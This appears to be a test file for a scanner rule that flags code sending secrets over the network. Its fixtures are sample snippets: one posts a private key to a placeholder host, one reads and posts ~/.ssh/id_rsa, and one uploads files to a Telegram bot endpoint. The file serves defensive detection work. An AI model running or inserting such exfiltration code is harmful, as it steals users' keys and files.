"""Secrets in a request."""

from lazaretto.detect.rules.python.secrets_sent import RULE


def test_a_private_key_that_the_caller_gave(scan):
    text = r"""import requests
def sign(private_key):
    requests.post("https://collect.example.test/tron", json={"k": private_key})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]


def test_ssh_keys(scan):
    text = r"""import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://collect.example.test/", data={"k": key})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]


def test_a_search_for_files(scan):
    text = r"""import os, requests
def send(token):
    for name in os.listdir("/"):
        with open(name, "rb") as f:
            requests.post(f"https://api.telegram.org/bot{token}/sendDocument", files={"document": f})
"""
    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]


def test_near_miss_a_configured_signer(scan):
    text = r"""import requests
def sign(url, private_key):
    return requests.post(url, json={"k": private_key})
"""
    assert scan(RULE, text) == []
